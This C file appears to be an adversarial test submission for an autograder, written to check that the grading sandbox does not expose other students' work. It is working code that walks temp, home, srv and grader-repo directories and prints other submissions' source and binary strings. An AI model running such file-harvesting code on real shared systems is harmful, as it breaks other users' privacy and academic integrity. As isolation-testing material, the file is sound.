/*
 * Attack 10 (read another student's work): graded at the same time as an honest submission,
 * look for it in the places a grader keeps submissions and their builds (the temporary
 * folders, /home, /srv, the grader's repo) and print every other msgpair.c and the strings of
 * every other msgpair binary. The grader must show the program nothing of other submissions:
 * the other student's marker must not appear in anything written about this one.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

extern char **environ;

static struct stat self;
static size_t printed;

#define BUDGET (900 * 1024) /* the sandbox keeps 1 MiB of stdout */

static void show_source(const char *path)
{
	FILE *f = fopen(path, "r");
	if (!f)
		return;
	char buf[16384];
	size_t n = fread(buf, 1, sizeof buf, f);
	fclose(f);
	if (!memmem(buf, n, "msgget", 6) || printed + n > BUDGET)
		return;
	printf("==> %s <==\n", path);
	fwrite(buf, 1, n, stdout);
	printed += n + strlen(path) + 10;
}

static void show_strings(const char *path)
{
	FILE *f = fopen(path, "r");
	if (!f)
		return;
	printf("==> strings %s <==\n", path);
	char run[256];
	size_t len = 0;
	int c;
	while ((c = getc(f)) != EOF && printed < BUDGET) {
		if (c >= 0x20 && c < 0x7f && len < sizeof run - 1) {
			run[len++] = (char)c;
			continue;
		}
		if (len >= 12) {
			run[len] = '\0';
			printed += (size_t)printf("%s\n", run);
		}
		len = 0;
	}
	fclose(f);
}

static void walk(const char *dir, int depth)
{
	DIR *d = opendir(dir);
	if (!d || depth > 9) {
		if (d)
			closedir(d);
		return;
	}
	struct dirent *e;
	int entries = 0;
	while ((e = readdir(d)) != NULL && entries++ < 2000) {
		if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, "..") ||
		    !strcmp(e->d_name, ".git"))
			continue;
		char path[PATH_MAX];
		snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
		struct stat st;
		if (lstat(path, &st) != 0)
			continue;
		size_t len = strlen(e->d_name);
		if (S_ISDIR(st.st_mode))
			walk(path, depth + 1);
		else if (!S_ISREG(st.st_mode) || st.st_size > 1 << 20)
			continue;
		else if (len > 2 && !strcmp(e->d_name + len - 2, ".c"))
			show_source(path);
		else if (!strcmp(e->d_name, "msgpair") &&
			 !(st.st_dev == self.st_dev && st.st_ino == self.st_ino))
			show_strings(path);
	}
	closedir(d);
}

int main(void)
{
	stat("/proc/self/exe", &self);
	static const char *const roots[] = {"/tmp", "/var/tmp", "/dev/shm", "/home", "/srv", NULL};
	for (int i = 0; roots[i]; i++)
		walk(roots[i], 0);
	/* The grader's own repo, from the paths in our environment. */
	for (char **e = environ; *e; e++) {
		char *eq = strchr(*e, '='), *b;
		if (eq && (b = strstr(eq + 1, "/build"))) {
			char repo[PATH_MAX];
			snprintf(repo, sizeof repo, "%.*s", (int)(b - eq - 1), eq + 1);
			walk(repo, 0);
			break;
		}
	}
	fflush(stdout);
	return 1;
}
